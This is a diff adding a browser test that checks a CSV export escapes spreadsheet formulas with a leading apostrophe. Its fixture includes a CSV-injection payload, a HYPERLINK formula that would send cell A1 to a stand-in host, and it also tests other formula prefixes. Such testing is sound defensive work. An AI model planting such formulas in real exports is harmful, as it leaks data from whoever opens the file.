@@ -88,6 +88,29 @@ test('a GBK CSV through the file input: filter to 未达标, open a person, expo
   }
 });
 
+test('names a spreadsheet would run as formulas are exported with a leading apostrophe, as cehours batch writes them', async () => {
+  const browser = await launch();
+  try {
+    const { context, page, watched } = await openUnitPage(browser, 1280);
+    const path = join(FIXTURES, 'formula-names.csv');
+    await load(page, path);
+    // Shown as typed on the page: only the file for a spreadsheet is made safe.
+    assert.ok((await shownNames(page)).includes('=HYPERLINK("http://x.example/?"&A1;"点我")'));
+    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
+    const exported = readFileSync(await download.path());
+    assert.ok(exported.equals(execFileSync(CLI, ['batch', '--as-of', AS_OF, path])), 'byte for byte what cehours batch writes');
+    const text = exported.toString('utf8');
+    for (const name of ['"\'=HYPERLINK(""http://x.example/?""&A1;""点我"")"', "'+1+2", "'@SUM(1)", "'-2"]) {
+      assert.ok(text.includes(`\r\n${name},`), name);
+    }
+    assert.ok(text.includes('\r\n李 =不在开头,'), 'a formula sign after the first character changes nothing');
+    assert.deepEqual(watched.problems, []);
+    await context.close();
+  } finally {
+    await browser.close();
+  }
+});
+
 test('bad rows are listed with line, column and field; the rest is evaluated; 375 px', async () => {
   const browser = await launch();
   try {
